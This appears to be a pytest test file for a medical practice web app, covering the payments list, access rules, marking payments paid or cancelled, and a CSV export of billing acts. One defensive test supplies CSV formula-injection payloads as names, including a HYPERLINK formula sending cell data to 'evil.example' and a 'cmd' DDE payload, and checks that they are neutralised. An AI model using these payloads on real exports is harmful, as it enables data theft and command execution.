"""The practice's payments list, marking paid or cancelling, and the CSV export of coded acts."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from conftest import HX, db_snapshot, login_as, make_appointment, make_patient, make_user, text_of
from webapp.models import AuditEvent, Payment, VisitAct, Waiver, utcnow


def closed_visit(practitioner, starts_at, acts=(("TC", 2500),), amount=2500, status="requested", **patient):
    appt = make_appointment(practitioner=practitioner, patient=make_patient(**patient), starts_at=starts_at,
                            status="closed", closed_at=starts_at + dt.timedelta(minutes=25))
    for code, fee in acts:
        VisitAct.create(appointment=appt, code=code, label=f"Act {code}", fee_cents=fee)
    payment = Payment.create(appointment=appt, amount_cents=amount, status=status) if amount else None
    return appt, payment


@pytest.fixture
def office(app):
    """Two practitioners with payments over the last days."""
    alice = make_user("practitioner", name="Dr Alice Martin")
    bruno = make_user("practitioner", name="Dr Bruno Petit")
    now = utcnow().replace(second=0, microsecond=0)
    _, a1 = closed_visit(alice, now - dt.timedelta(days=2), first_name="Anne", last_name="Durand")
    _, a2 = closed_visit(alice, now - dt.timedelta(days=3), amount=3000, status="paid", first_name="Paul",
                         last_name="Roux")
    _, b1 = closed_visit(bruno, now - dt.timedelta(days=1), amount=1500, first_name="Léa", last_name="Moreau")
    _, old = closed_visit(bruno, now - dt.timedelta(days=90), amount=1000, first_name="Hugo", last_name="Blanc")
    return {"alice": alice, "bruno": bruno, "a1": a1, "a2": a2, "b1": b1, "old": old}


def test_needs_staff(client, office):
    response = client.get("/payments/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.post(f"/payments/{office['a1'].id}/paid").status_code == 302
    assert Payment.get_by_id(office["a1"].id).status == "requested"
    assert client.get("/payments/acts.csv").status_code == 302


def test_list_defaults_to_the_last_30_days_for_secretary(client, office):
    login_as(client, "secretary")
    text = text_of(client.get("/payments/"))
    for name in ("Anne Durand", "Paul Roux", "Léa Moreau"):
        assert name in text
    assert "Hugo Blanc" not in text
    assert "€25.00" in text and "€30.00" in text


def test_filters_status_practitioner_and_dates(client, office):
    login_as(client, "admin")
    text = text_of(client.get("/payments/", query_string={"status": "paid"}))
    assert "Paul Roux" in text and "Anne Durand" not in text and "Léa Moreau" not in text
    text = text_of(client.get("/payments/", query_string={"practitioner": office["bruno"].id}))
    assert "Léa Moreau" in text and "Anne Durand" not in text
    today = dt.date.today()
    text = text_of(client.get("/payments/", query_string={"start": (today - dt.timedelta(days=100)).isoformat(),
                                                          "end": (today - dt.timedelta(days=60)).isoformat()}))
    assert "Hugo Blanc" in text and "Anne Durand" not in text


def test_filters_answer_a_fragment_to_htmx(client, office):
    login_as(client, "admin")
    response = client.get("/payments/", query_string={"status": "paid"}, headers=HX)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and html.lstrip().startswith('<div id="payments-results">')
    assert "Paul Roux" in html and "<nav" not in html
    assert "HX-Request" in response.headers["Vary"]
    full = client.get("/payments/", query_string={"status": "paid"})
    assert "<nav" in full.get_data(as_text=True) and 'id="payment-filters"' in full.get_data(as_text=True)


def test_practitioner_sees_only_their_own(client, office):
    login_as(client, office["alice"])
    text = text_of(client.get("/payments/"))
    assert "Anne Durand" in text and "Léa Moreau" not in text
    # Asking for another practitioner is refused, not silently widened.
    response = client.get("/payments/", query_string={"practitioner": office["bruno"].id})
    assert response.status_code == 422 and "Léa Moreau" not in text_of(response)
    assert client.post(f"/payments/{office['b1'].id}/paid").status_code == 404
    assert Payment.get_by_id(office["b1"].id).status == "requested"


@pytest.mark.parametrize("args, message", [
    ({"start": "2026-13-01"}, "Enter a date as YYYY-MM-DD."),
    ({"end": "yesterday"}, "Enter a date as YYYY-MM-DD."),
    ({"start": "2026-03-10", "end": "2026-03-01"}, "The end date must not be before the start date."),
    ({"status": "stolen"}, "Choose a status from the list."),
    ({"practitioner": "999999"}, "Choose a practitioner from the list."),
])
def test_bad_filters_are_explained(client, office, args, message):
    login_as(client, "admin")
    response = client.get("/payments/", query_string=args)
    assert response.status_code == 422 and message in text_of(response)
    assert "Anne Durand" not in text_of(response)


def test_mark_paid_without_js_then_twice(client, office):
    user = login_as(client, "secretary")
    pid = office["a1"].id
    response = client.post(f"/payments/{pid}/paid", data={"status": "requested"})
    assert response.status_code == 302 and response.headers["Location"].endswith("/payments/?status=requested")
    payment = Payment.get_by_id(pid)
    assert payment.status == "paid" and payment.paid_at is not None and payment.updated_by_id == user.id
    event = AuditEvent.select().where(AuditEvent.action == "payment.marked_paid").get()
    assert event.user_id == user.id and event.appointment_id == payment.appointment_id
    # A second tab clicking again changes nothing and says why.
    again = client.post(f"/payments/{pid}/paid")
    assert again.status_code == 409 and "already marked “Paid”" in text_of(again)
    assert Payment.get_by_id(pid).paid_at == payment.paid_at
    assert client.post(f"/payments/{pid}/cancel").status_code == 409
    assert Payment.get_by_id(pid).status == "paid"


def test_mark_paid_and_cancel_with_htmx_answer_the_row(client, office):
    login_as(client, "admin")
    response = client.post(f"/payments/{office['a1'].id}/paid", headers=HX)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and html.lstrip().startswith(f'<tr id="payment-{office["a1"].id}"')
    assert 'data-status="paid"' in html and "Mark paid" not in html
    response = client.post(f"/payments/{office['b1'].id}/cancel", headers=HX)
    assert response.status_code == 200 and 'data-status="cancelled"' in response.get_data(as_text=True)
    assert Payment.get_by_id(office["b1"].id).status == "cancelled"
    assert client.post("/payments/999999/paid").status_code == 404


def test_csv_rows_exact(client, app):
    alice = make_user("practitioner", name="Dr Alice Martin")
    bruno = make_user("practitioner", name="Dr Bruno Petit")
    # 09:00 UTC is 10:00 in Paris; 23:30 UTC on 11 March is already 12 March in Paris.
    closed_visit(alice, dt.datetime(2026, 3, 10, 9, 0), acts=(("TC", 2500), ("MCX", 500)), amount=3000,
                 status="paid", first_name="Zoë", last_name="Ærø", birth_date=dt.date(1985, 2, 3), nir="285022A12345632")
    second, _ = closed_visit(bruno, dt.datetime(2026, 3, 11, 23, 30), acts=(("TLS", 1000),), amount=0,
                             first_name="Jean", last_name="Dupont", birth_date=dt.date(1950, 12, 31))
    Waiver.create(appointment=second, item="payment", reason="third-party payment")
    closed_visit(alice, dt.datetime(2026, 3, 12, 9, 0), acts=(), first_name="Sans", last_name="Acte")
    closed_visit(alice, dt.datetime(2026, 3, 20, 9, 0), first_name="Hors", last_name="Période")
    make_appointment(practitioner=alice, starts_at=dt.datetime(2026, 3, 10, 12, 0))   # not closed
    user = login_as(client, "secretary")
    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="acts-2026-03-01-2026-03-15.csv"'
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [
        ["Date", "Practitioner", "Patient", "Birth date", "Social security number", "Act codes", "Fees",
         "Payment status"],
        # The NIR whole, as stored (Corsica's 2A kept): billing software builds the care sheet from it.
        ["2026-03-10", "Dr Alice Martin", "Zoë Ærø", "1985-02-03", "285022A12345632", "TC+MCX", "30,00", "Paid"],
        ["2026-03-12", "Dr Bruno Petit", "Jean Dupont", "1950-12-31", "", "TLS", "10,00", "Waived"],
    ]
    event = AuditEvent.select().where(AuditEvent.action == "payments.acts_exported").get()
    assert event.user_id == user.id and event.detail == "2026-03-01..2026-03-15 2 rows"
    # Only the practitioner filter's rows when one is chosen.
    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15",
                                                              "practitioner": bruno.id})
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    assert [r[2] for r in rows[1:]] == ["Jean Dupont"]


# (practitioner's name, patient's first and last name) → (practitioner cell, patient cell) read back.
@pytest.mark.parametrize("practitioner, first, last, expected", [
    ("Dr Alice Martin", "=HYPERLINK(\"https://evil.example/?\"&A1;\"Click\")", "Durand",
     ("Dr Alice Martin", "'=HYPERLINK(\"https://evil.example/?\"&A1;\"Click\") Durand")),
    ("Dr Alice Martin", "+1+1", "Durand", ("Dr Alice Martin", "'+1+1 Durand")),
    ("Dr Alice Martin", "-2+3", "cmd|' /C calc'!A0", ("Dr Alice Martin", "'-2+3 cmd|' /C calc'!A0")),
    ("Dr Alice Martin", "@SUM(1+1)", "Durand", ("Dr Alice Martin", "'@SUM(1+1) Durand")),
    ("Dr Alice Martin", "\t=1+1", "Durand", ("Dr Alice Martin", "'=1+1 Durand")),   # the name is trimmed
    ("\t=1+1", "Anne", "Durand", ("'\t=1+1", "Anne Durand")),
    ("\r=1+1", "Anne", "Durand", ("'\r=1+1", "Anne Durand")),
    ("=1+1", "Anne", "Durand", ("'=1+1", "Anne Durand")),
    ("Dr Alice Martin", "Anne", "=1+1", ("Dr Alice Martin", "Anne =1+1")),   # not at the start: plain text
    ("Dr Alice Martin", "Anne-Marie", "Durand", ("Dr Alice Martin", "Anne-Marie Durand")),
])
def test_csv_cells_are_never_formulas(client, app, practitioner, first, last, expected):
    doctor = make_user("practitioner", name=practitioner)
    closed_visit(doctor, dt.datetime(2026, 3, 10, 9, 0), acts=(("TC", 2500),), amount=2500,
                 first_name=first, last_name=last, birth_date=dt.date(1985, 2, 3))
    login_as(client, "secretary")
    before = db_snapshot()
    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1] == ["2026-03-10", *expected, "1985-02-03", "", "TC", "25,00", "Requested"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    after = db_snapshot()
    assert {k: v for k, v in after.items() if k != "AuditEvent"} == \
        {k: v for k, v in before.items() if k != "AuditEvent"}


def test_csv_instant_visit_number_is_text_not_a_sum(client, app):
    """An instant visit has no patient record: the cell holds its mobile number, which starts with "+"."""
    doctor = make_user("practitioner", name="Dr Alice Martin")
    appt = make_appointment(practitioner=doctor, patient=None, contact_phone="+33612345678", kind="instant",
                            starts_at=dt.datetime(2026, 3, 10, 9, 0), status="closed",
                            closed_at=dt.datetime(2026, 3, 10, 9, 25))
    VisitAct.create(appointment=appt, code="TC", label="Act TC", fee_cents=2500)
    login_as(client, "secretary")
    response = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-15"})
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1] == ["2026-03-10", "Dr Alice Martin", "'+33612345678", "", "", "TC", "25,00", "Not requested"]


def test_csv_of_a_practitioner_holds_only_their_visits(client, app):
    alice = make_user("practitioner", name="Dr Alice Martin")
    bruno = make_user("practitioner", name="Dr Bruno Petit")
    closed_visit(alice, dt.datetime(2026, 3, 10, 9, 0), first_name="Anne", last_name="Durand")
    closed_visit(bruno, dt.datetime(2026, 3, 10, 10, 0), first_name="Léa", last_name="Moreau")
    login_as(client, alice)
    body = client.get("/payments/acts.csv", query_string={"start": "2026-03-01", "end": "2026-03-31"}).get_data()
    assert "Anne Durand".encode() in body and "Léa Moreau".encode() not in body


@pytest.mark.parametrize("args, message", [
    ({"start": "2025-01-01", "end": "2026-03-01"}, "Export at most 366 days at a time."),
    ({"start": "2026-03-10", "end": "2026-03-01"}, "The end date must not be before the start date."),
    ({"start": "10/03/2026"}, "Enter a date as YYYY-MM-DD."),
])
def test_csv_bad_range(client, app, args, message):
    login_as(client, "admin")
    response = client.get("/payments/acts.csv", query_string=args)
    assert response.status_code == 422 and message in text_of(response)
    assert not AuditEvent.select().where(AuditEvent.action == "payments.acts_exported").exists()
